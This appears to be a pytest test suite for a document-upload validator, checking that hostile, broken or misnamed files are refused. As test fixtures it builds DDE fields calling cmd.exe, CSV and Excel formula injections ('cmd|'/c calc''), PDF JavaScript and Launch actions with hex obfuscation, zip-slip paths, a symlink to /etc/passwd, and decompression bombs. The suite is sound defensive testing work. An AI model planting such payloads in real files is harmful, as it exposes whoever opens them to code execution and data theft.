"""Hostile, broken and misnamed files are refused, each with its own sentence, and leave nothing behind."""

import struct
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

import pytest
from pypdf import PdfWriter
from pytest_django import Settings

from tests.evidence import samples
from tests.evidence.conftest import Receive
from youju.evidence import errors
from youju.evidence.models import File
from youju.orgs.settings import SettingRow


def _dde_split_over_runs() -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("D", "DEA", r"UTO c:\\cmd.exe"))
    return samples.word(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


def _locked_pdf() -> bytes:
    writer, made = PdfWriter(), BytesIO()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="AES-256")
    writer.write(made)
    return made.getvalue()


def _pdf_with_a_hidden_attachment() -> bytes:
    """Its name is written in hex, where a search of the bytes finds nothing."""
    writer, made = PdfWriter(), BytesIO()
    writer.add_blank_page(100, 100)
    writer.add_attachment("a.exe", b"MZ")
    writer.write(made)
    return made.getvalue().replace(b"/EmbeddedFile", b"/Embedded#46ile")


def _locked_zip() -> bytes:
    """The flag that marks an entry as encrypted, set in both of its headers."""
    content = bytearray(samples.office())
    content[6] |= 1
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def _link_in_zip() -> bytes:
    entry = ZipInfo("word/evil")
    entry.external_attr = 0o120777 << 16
    made = BytesIO(samples.office())
    with ZipFile(made, "a", ZIP_DEFLATED) as target:
        target.writestr(entry, "/etc/passwd")
    return made.getvalue()


def _twice_in_zip() -> bytes:
    made = BytesIO(samples.office())
    with ZipFile(made, "a") as target, pytest.warns(UserWarning, match="Duplicate"):
        target.writestr("word/document.xml", "<other/>")
    return made.getvalue()


def _deep(levels: int) -> bytes:
    inner = samples.office(samples.XLSX)
    for _level in range(levels):
        inner = samples.office(samples.XLSX, {"xl/embeddings/inner.xlsx": inner})
    return inner


def _nested_bomb() -> bytes:
    """Each layer is small; together they unpack to more than is allowed."""
    layer = samples.office(samples.XLSX, {"xl/big.bin": b"\0" * 3_000_000})
    return samples.office(extra={f"word/embeddings/{number}.xlsx": layer for number in range(3)})


def _linked(kind: str, target: str) -> bytes:
    return samples.office(extra={"word/_rels/document.xml.rels": samples.relation(kind, target)})


_DDE_SIMPLE = samples.word(r'<w:p><w:fldSimple w:instr=" ddeauto c:\\cmd.exe"/></w:p>')
_DDE_UTF16 = samples.office(
    extra={"word/document.xml": samples.word_xml(r'<w:p><w:fldSimple w:instr="DDE x"/></w:p>').encode("utf-16")}
)
_SCRIPT_PDF = samples.pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
_HEX_SCRIPT_PDF = samples.pdf("/OpenAction<</S/Java#53cript/JS(app.alert(1))>>")
_LAUNCH_PDF = samples.pdf("/OpenAction 6 0 R", "<</S/La#75nch/F(cmd.exe)>>")
_PAGELESS_PDF = samples.pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0")
_MACRO_TYPE = samples.DOCX.replace("vnd.openxmlformats-officedocument.wordprocessingml", "vnd.ms-word").replace(
    "document.main", "document.macroEnabled.main"
)

# A record BOUNDSHEET of an old workbook whose sheet holds macros.
_MACRO_SHEET = b"\x85\0\x0e\0" + b"\x10\x20\x30\0" + b"\0\x01" + b"\x06\0Macro1"
REACHING_OUT = [
    'WEBSERVICE("http://example.invalid/?"&amp;A1)',
    '_xlfn.webservice ("http://example.invalid")',
    '_xlfn.IMAGE("https://example.invalid/a.png")',
    'RTD("prog.id",,"x")',
    "cmd|'/c calc'!A0",
    "MSEXCEL|'C:\\x'!''",
    "'\\\\example.invalid\\share\\[a.xlsx]S'!A1",
    'HYPERLINK("\\\\example.invalid\\share\\a.exe")',
]

HOSTILE: list[tuple[str, str, bytes, type[errors.FileRefused]]] = [
    ("zero bytes", "a.jpg", b"", errors.EmptyFile),
    ("larger than the limit", "a.txt", b"a" * (3 * 1024**2 + 1), errors.FileTooLarge),
    ("program", "a.exe", b"MZ\x90\0" + b"\0" * 99, errors.TypeNotAllowed),
    ("web page", "a.html", b"<html><script>", errors.TypeNotAllowed),
    ("drawing with script", "a.svg", b"<svg onload='x'/>", errors.TypeNotAllowed),
    ("plain archive", "a.zip", samples.archive({"a.txt": "a"}), errors.TypeNotAllowed),
    ("program named jpg", "a.jpg", b"MZ\x90\0" + b"\0" * 99, errors.UnknownContent),
    ("web page named txt", "a.txt", b"\xef\xbb\xbf <!DOCTYPE html><p>", errors.UnknownContent),
    ("drawing named png", "a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", errors.UnknownContent),
    ("mail page named txt", "a.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related", errors.UnknownContent),
    ("bytes named txt", "a.txt", bytes(range(256)), errors.UnknownContent),
    ("archive named docx", "a.docx", samples.archive({"a.txt": "a"}), errors.UnknownContent),
    ("template named docx", "a.docx", samples.office("x.template.main+xml"), errors.UnknownContent),
    ("png named jpg", "a.jpg", samples.png(), errors.ExtensionMismatch),
    ("pdf named docx", "a.docx", samples.pdf(), errors.ExtensionMismatch),
    ("xlsx named docx", "a.docx", samples.office(samples.XLSX), errors.ExtensionMismatch),
    ("no extension", "photo", samples.png(), errors.ExtensionMismatch),
    ("second extension", "a.png.exe", samples.png(), errors.TypeNotAllowed),
    ("old Word under a new name", "a.docx", samples.old_office(), errors.ExtensionMismatch),
    ("old file of no kept kind", "a.doc", samples.old_office("__substg1.0"), errors.OldOfficeFile),
    ("old Word with macros", "a.doc", samples.old_office("WordDocument", "_VBA_PROJECT"), errors.ContainsMacros),
    ("old Excel with a macro sheet", "a.xls", samples.old_office("Workbook", raw=_MACRO_SHEET), errors.ContainsMacros),
    (
        "program in an old document",
        "a.wps",
        samples.old_office("WordDocument", "\x01Ole10Native"),
        errors.ContainsActiveContent,
    ),
    ("old Word with a password", "a.doc", samples.old_office("EncryptedPackage"), errors.PasswordProtected),
    ("bmp cut off", "a.bmp", samples.bmp()[:40], errors.DamagedFile),
    ("pixel flood bmp", "a.bmp", samples.bmp(60_000, 60_000), errors.TooManyPixels),
    ("pixel flood tiff", "a.tif", samples.tiff(60_000, 60_000), errors.TooManyPixels),
    ("tiff without tags", "a.tiff", b"II*\0\x08\0\0\0\0\0", errors.DamagedFile),
    ("png named heic", "a.heic", samples.png(), errors.ExtensionMismatch),
    ("Office with a password", "a.docx", samples.old_office("EncryptedPackage"), errors.PasswordProtected),
    ("pdf with a password", "a.pdf", _locked_pdf(), errors.PasswordProtected),
    ("zip with a password", "a.docx", _locked_zip(), errors.PasswordProtected),
    ("ofd with a password", "a.ofd", samples.ofd({"Encryptions.xml": "<a/>"}), errors.PasswordProtected),
    ("macro part", "a.docx", samples.office(extra={"word/vbaProject.bin": b"x"}), errors.ContainsMacros),
    ("macro type", "a.docx", samples.office(_MACRO_TYPE), errors.ContainsMacros),
    (
        "old macro sheet",
        "a.xlsx",
        samples.office(samples.XLSX, {"xl/macrosheets/s.xml": "<a/>"}),
        errors.ContainsMacros,
    ),
    (
        "macros in an embedded workbook",
        "a.docx",
        samples.office(extra={"word/embeddings/old.xls": samples.old_office("_VBA_PROJECT")}),
        errors.ContainsMacros,
    ),
    (
        "embedded program",
        "a.docx",
        samples.office(extra={"word/embeddings/oleObject1.bin": samples.old_office("\x01Ole10Native")}),
        errors.ContainsActiveContent,
    ),
    ("control", "a.docx", samples.office(extra={"word/activeX/a.bin": b"x"}), errors.ContainsActiveContent),
    ("DDE in one piece", "a.docx", _DDE_SIMPLE, errors.ContainsActiveContent),
    ("DDE over several runs", "a.docx", _dde_split_over_runs(), errors.ContainsActiveContent),
    ("DDE in UTF-16", "a.docx", _DDE_UTF16, errors.ContainsActiveContent),
    (
        "DDE link of a workbook",
        "a.xlsx",
        samples.office(samples.XLSX, {"xl/externalLinks/e.xml": '<x:ddeLink ddeService="cmd"/>'}),
        errors.ContainsActiveContent,
    ),
    *(
        (f"formula: {formula}", "a.xlsx", samples.workbook(formula), errors.ContainsActiveContent)
        for formula in REACHING_OUT
    ),
    *(
        (f"csv: {formula}", "a.csv", f"name,n\nx,={formula}\n".encode(), errors.ContainsActiveContent)
        for formula in REACHING_OUT
    ),
    ("DDE in csv", "a.csv", b"name,n\nx,=cmd|'/c calc'!A0\n", errors.ContainsActiveContent),
    (
        "entities",
        "a.docx",
        samples.office(extra={"word/x.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'}),
        errors.ContainsActiveContent,
    ),
    ("remote template", "a.docx", _linked("attachedTemplate", "https://e.org/a.dotm"), errors.ContainsActiveContent),
    ("template on a share", "a.docx", _linked("attachedTemplate", r"\\e.org\a.dotm"), errors.ContainsActiveContent),
    ("share as a file address", "a.docx", _linked("attachedTemplate", "file://e/a.dotm"), errors.ContainsActiveContent),
    ("picture on a share", "a.docx", _linked("image", r"\\e.org\a.png"), errors.ContainsActiveContent),
    ("remote object", "a.docx", _linked("oleObject", "http://e.org/a.rtf"), errors.ContainsActiveContent),
    ("script link", "a.docx", _linked("hyperlink", "javascript:alert(1)"), errors.ContainsActiveContent),
    ("pdf script", "a.pdf", _SCRIPT_PDF, errors.ContainsActiveContent),
    ("pdf script in hex", "a.pdf", _HEX_SCRIPT_PDF, errors.ContainsActiveContent),
    ("pdf launch", "a.pdf", _LAUNCH_PDF, errors.ContainsActiveContent),
    ("pdf attachment", "a.pdf", _pdf_with_a_hidden_attachment(), errors.ContainsActiveContent),
    ("bomb", "a.docx", samples.office(extra={"word/a.bin": b"\0" * 9_000_000}), errors.UnpacksTooMuch),
    ("nested bomb", "a.docx", _nested_bomb(), errors.UnpacksTooMuch),
    ("nested deeply", "a.xlsx", _deep(4), errors.UnpacksTooMuch),
    (
        "archive in a document",
        "a.docx",
        samples.office(extra={"a.zip": samples.archive({"a": "a"})}),
        errors.UnsafeArchive,
    ),
    ("slip", "a.docx", samples.office(extra={"../../etc/cron": "x"}), errors.UnsafeArchive),
    ("slip with a backslash", "a.docx", samples.office(extra={"..\\..\\a": "x"}), errors.UnsafeArchive),
    ("absolute path", "a.docx", samples.office(extra={"/etc/cron": "x"}), errors.UnsafeArchive),
    ("drive", "a.docx", samples.office(extra={"C:\\a": "x"}), errors.UnsafeArchive),
    ("symbolic link", "a.docx", _link_in_zip(), errors.UnsafeArchive),
    ("one name twice", "a.docx", _twice_in_zip(), errors.UnsafeArchive),
    ("pixel flood", "a.png", samples.png(60_000, 60_000), errors.TooManyPixels),
    ("pixel flood jpeg", "a.jpg", samples.jpeg(60_000, 60_000), errors.TooManyPixels),
    ("pixel flood heic", "a.heic", samples.heic(60_000, 60_000), errors.TooManyPixels),
    ("pixel flood gif", "a.gif", samples.gif(60_000, 60_000), errors.TooManyPixels),
    ("picture without height", "a.gif", samples.gif(5, 0), errors.DamagedFile),
    ("picture and web page", "a.png", samples.png() + b"<script>alert(1)</script>", errors.TwoFilesInOne),
    ("picture and archive", "a.jpg", samples.jpeg() + samples.archive({"a": "a"}), errors.TwoFilesInOne),
    (
        "picture and archive far from its end",
        "a.jpg",
        samples.jpeg() + samples.archive({"a": "a"}) + bytes(70_000),
        errors.TwoFilesInOne,
    ),
    (
        "picture and archive without a list",
        "a.png",
        samples.png() + samples.archive({"a": "a"})[:40],
        errors.TwoFilesInOne,
    ),
    ("picture and rar", "a.jpg", samples.jpeg() + b"Rar!\x1a\x07\x01\x00" + bytes(90), errors.TwoFilesInOne),
    ("picture and 7z", "a.jpg", samples.jpeg() + b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(90), errors.TwoFilesInOne),
    ("pdf and archive", "a.pdf", samples.pdf() + samples.archive({"a": "a"}), errors.TwoFilesInOne),
    ("pdf without pages", "a.pdf", _PAGELESS_PDF, errors.DamagedFile),
    ("film without index", "a.mp4", samples.box(b"ftyp", b"isom\0\0\0\0"), errors.DamagedFile),
]


@pytest.fixture(autouse=True)
def small_limits(db: None, settings: Settings):
    settings.UNPACKED_BYTES = 8_000_000
    SettingRow.objects.create(code="upload_megabytes", value="3")


@pytest.mark.parametrize(("name", "content", "error"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE])
def test_it_refuses(receive: Receive, folder: Path, name: str, content: bytes, error: type[errors.FileRefused]):
    with pytest.raises(error) as refusal:
        receive(content, name)

    assert type(refusal.value) is error
    assert name in str(refusal.value)
    assert not File.objects.exists()
    assert not [path for path in folder.rglob("*") if path.is_file()]


WHOLE = [
    ("a.jpg", samples.jpeg()),
    ("a.png", samples.png()),
    ("a.gif", samples.gif()),
    ("a.webp", samples.webp()),
    ("a.heic", samples.heic()),
    ("a.pdf", samples.pdf()),
    ("a.docx", samples.written_document("一")),
    ("a.ofd", samples.ofd()),
    ("a.mp4", samples.film()),
]


@pytest.mark.parametrize(("name", "content"), WHOLE, ids=[name for name, _ in WHOLE])
def test_it_refuses_a_file_that_is_cut_off(receive: Receive, name: str, content: bytes):
    cut = content[: len(content) * 2 // 3]

    with pytest.raises(errors.DamagedFile):
        receive(cut, name)


def test_it_refuses_an_entry_whose_bytes_were_changed(receive: Receive):
    content = bytearray(samples.office(extra={"word/media/a.bin": bytes(range(256)) * 40}))
    content[content.find(b"word/media/a.bin") + 60] ^= 0xFF

    with pytest.raises(errors.DamagedFile):
        receive(bytes(content), "a.docx")


def test_it_refuses_a_size_that_an_entry_lies_about(receive: Receive):
    content = bytearray(samples.office(extra={"word/a.bin": b"\0" * 100_000}))
    struct.pack_into("<I", content, content.rfind(b"PK\x01\x02") + 24, 10)

    with pytest.raises(errors.DamagedFile):
        receive(bytes(content), "a.docx")


@pytest.mark.parametrize(("name", "content"), WHOLE, ids=[name for name, _ in WHOLE])
def test_no_changed_byte_makes_it_fail_otherwise_than_by_a_refusal(receive: Receive, name: str, content: bytes):
    for place in range(0, len(content), max(1, len(content) // 60)):
        spoiled = bytearray(content)
        spoiled[place] ^= 0x55
        try:
            receive(bytes(spoiled), name)
        except errors.FileRefused as refusal:
            assert name in str(refusal)


def test_it_refuses_a_document_with_more_fields_than_can_be_read(receive: Receive, settings: Settings):
    settings.UNPACKED_BYTES = 100_000_000
    field = "<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>"

    with pytest.raises(errors.TooComplex):
        receive(samples.word(field * 1_000_000), "a.docx")


def test_it_refuses_a_pdf_with_more_objects_than_can_be_read(receive: Receive, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("youju.evidence.pdf._MOST_OBJECTS", 3)

    with pytest.raises(errors.TooComplex):
        receive(samples.pdf(), "a.pdf")
